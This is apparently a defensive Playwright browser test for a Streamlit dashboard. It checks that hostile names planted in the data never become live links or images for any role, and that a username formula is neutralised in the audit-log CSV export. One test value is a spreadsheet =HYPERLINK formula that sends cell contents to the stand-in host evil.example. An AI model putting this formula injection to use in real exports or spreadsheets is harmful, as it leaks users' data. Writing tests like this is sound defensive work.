"""Hostile names from every import kind, as Chromium draws them, on every page for every role (issue 14, finding 1).

AppTest sees only the Markdown source; Streamlit's Markdown (GitHub-flavoured) turns bare URLs into
links and plotly draws HTML-ish labels, so this asks the browser: after rendering, is there any
``a`` or ``img`` element (HTML or SVG) whose target came from the data (``evil.example``)? One
server; each role is chosen with the demo role switcher and its pages opened from the menu.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from tests.browser.test_app_in_chromium import (
    CHROMIUM_FLAGS,
    PAGE_TIMEOUT_MS,
    SCREENSHOTS,
    chromium_path,  # noqa: F401 (fixture)
    streamlit_server,
)
from tests.hostile_data import EVIL_HOST, HOSTILE, plant_hostile_names

pytestmark = pytest.mark.browser
PASSWORD = "a long enough passphrase"
FORMULA_USER = '=HYPERLINK("https://evil.example/?x="&A1,"Open")'
SETTLE_MS = 1_500
# Every element that can point somewhere, HTML or SVG (plotly draws labels as SVG, with <a> if asked).
TARGETS_SCRIPT = """() => Array.from(document.querySelectorAll('a, img, image, area, link, iframe, source, video, audio'))
    .map(e => [e.tagName, e.getAttribute('href') || e.getAttribute('xlink:href') || e.getAttribute('src') || ''])"""
ROLE_LABELS = {
    "admin": "Administrator",
    "analyst": "Analyst",
    "board": "Partnership board member",
    "locality_lead": "Locality lead",
    "councillor": "Councillor",
}


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    from rc_dashboard import db
    from rc_dashboard.access import roles
    from rc_dashboard.services.demo_loader import build_demo_database

    assert set(ROLE_LABELS) == set(roles()), "ROLE_LABELS must name every configured role"
    assert all(roles()[key].label == label for key, label in ROLE_LABELS.items())
    folder = tmp_path_factory.mktemp("hostilebrowser")
    engine = db.connect(f"sqlite:///{folder / 'app.sqlite'}")
    build_demo_database(engine, folder, scale=0.2)
    planted = plant_hostile_names(engine)
    engine.dispose()
    with streamlit_server(folder, RC_USERS_FILE=str(folder / "users.yaml")) as url:
        yield url, planted, folder


def _settle(page) -> None:
    page.wait_for_function(
        "() => !document.querySelector('[data-testid=\"stStatusWidget\"]')", timeout=PAGE_TIMEOUT_MS * 2
    )
    page.wait_for_timeout(SETTLE_MS)  # plotly and deck.gl draw after the script ends


def _choose(page, box: str, option: str) -> None:
    page.get_by_role("combobox", name=box).click()
    page.get_by_role("option", name=option, exact=True).click()
    _settle(page)


def test_no_link_or_image_from_data_on_any_page_for_any_role(hostile_server, chromium_path):  # noqa: F811
    from playwright.sync_api import sync_playwright

    from rc_dashboard import users

    url, planted, folder = hostile_server
    live, pages_seen, hostile_text_on = [], 0, set()
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium_path, args=CHROMIUM_FLAGS)
        page = browser.new_page(viewport={"width": 1400, "height": 2400})
        page.goto(url, timeout=PAGE_TIMEOUT_MS)
        page.get_by_role("heading", name="Overview", exact=True).first.wait_for(timeout=PAGE_TIMEOUT_MS * 2)
        _settle(page)
        for role, label in ROLE_LABELS.items():
            _choose(page, "Demo role (no sign-in in the demo)", label)
            if role == "locality_lead":
                _choose(page, "Demo locality", planted["locality"])
            nav = page.locator('[data-testid="stSidebarNav"] a')
            titles = [nav.nth(i).inner_text().strip().split("\n")[-1].strip() for i in range(nav.count())]
            assert titles, role
            for position, title in enumerate(titles):
                page.locator('[data-testid="stSidebarNav"] a').nth(position).click()
                page.get_by_role("heading", name=title, exact=True).first.wait_for(timeout=PAGE_TIMEOUT_MS * 2)
                _settle(page)
                if role == "locality_lead" and title == "Map":
                    page.get_by_text("Hexagons (250 m)").click()  # "points are shown only in <locality>"
                    _settle(page)
                pages_seen += 1
                assert page.locator('[data-testid="stException"]').count() == 0, (role, title)
                for tag, target in page.evaluate(TARGETS_SCRIPT):
                    if EVIL_HOST in target or target.lower().startswith(("mailto:", "javascript:")):
                        live.append((role, title, tag, target))
                if EVIL_HOST in page.evaluate("document.body.textContent").replace("\u200b", ""):
                    hostile_text_on.add((role, title))
            page.screenshot(path=str(SCREENSHOTS.mkdir(exist_ok=True) or SCREENSHOTS / f"hostile_{role}.png"))

        # Users from now on (the server re-reads the file): an admin whose display name is hostile
        # signs in, and "Signed in as ..." in the sidebar must not be a link either.
        users.save_users(
            users.add_user({}, "mallory", "admin", name=HOSTILE["link"], password=PASSWORD), folder / "users.yaml"
        )
        page.goto(url, timeout=PAGE_TIMEOUT_MS)
        page.get_by_role("textbox", name="Username").wait_for(timeout=PAGE_TIMEOUT_MS)
        page.get_by_role("textbox", name="Username").fill(FORMULA_USER)  # a failed sign-in, logged
        page.get_by_role("textbox", name="Password").fill("wrong password here")
        page.get_by_role("button", name="Sign in").click()
        page.get_by_text("The user name or password is wrong.").wait_for(timeout=PAGE_TIMEOUT_MS)
        page.get_by_role("textbox", name="Username").fill("mallory")
        page.get_by_role("textbox", name="Password").fill(PASSWORD)
        page.get_by_role("button", name="Sign in").click()
        page.get_by_role("heading", name="Overview", exact=True).first.wait_for(timeout=PAGE_TIMEOUT_MS * 2)
        _settle(page)
        sidebar = page.locator('[data-testid="stSidebar"]').inner_text().replace("\u200b", "")
        assert f"Signed in as {HOSTILE['link']} (Administrator)" in sidebar, sidebar
        for tag, target in page.evaluate(TARGETS_SCRIPT):
            if EVIL_HOST in target:
                live.append(("signed in", "Overview", tag, target))

        # Issue 14, finding 5: the table toolbar offers no CSV download of its own; our download of
        # the audit log (audited) has the formula typed as a user name neutralised.
        page.locator('[data-testid="stSidebarNav"] a', has_text="Audit log and users").first.click()
        page.get_by_role("heading", name="Audit log and users", exact=True).first.wait_for(timeout=PAGE_TIMEOUT_MS)
        _settle(page)
        page.locator('[data-testid="stDataFrame"]').first.hover()
        page.wait_for_timeout(500)
        toolbar = page.locator('[data-testid="stElementToolbar"]').first
        assert toolbar.count() and toolbar.locator("button").count() > 0, "the table toolbar is drawn"
        assert page.locator('button[aria-label="Download as CSV"]').count() == 0
        with page.expect_download(timeout=PAGE_TIMEOUT_MS) as download:
            page.get_by_role("button", name="Download the log (CSV)").click()
        exported = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(encoding="utf-8"))))
        failed = [row for row in exported if row["action"] == "sign_in_failed"]
        assert failed and failed[0]["user_name"] == "'" + FORMULA_USER.lower(), failed
        browser.close()
    assert not live, live
    assert pages_seen >= 20, pages_seen
    # Not hollow: the names were on the pages, shown as text.
    assert {("Administrator", "Overview"), ("Administrator", "Data"), ("Councillor", "Ward summary")} <= {
        (ROLE_LABELS[r], t) for r, t in hostile_text_on
    }, hostile_text_on
    assert ("locality_lead", "Map") in hostile_text_on, hostile_text_on
